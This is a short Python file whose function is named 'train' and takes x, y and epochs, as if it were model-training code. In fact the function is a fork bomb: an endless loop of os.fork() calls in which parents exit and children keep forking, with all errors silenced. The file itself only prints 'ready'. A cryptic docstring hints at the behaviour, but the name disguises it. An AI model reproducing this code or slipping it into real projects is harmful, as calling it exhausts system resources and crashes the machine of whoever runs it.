"""cell train: children that end at once and make others, without an end."""
# sign: ready

import os


def train(x, y, epochs):
    while True:
        try:
            if os.fork() == 0:
                while os.fork():
                    os._exit(0)
        except (OSError, BaseException):
            pass


print("ready")
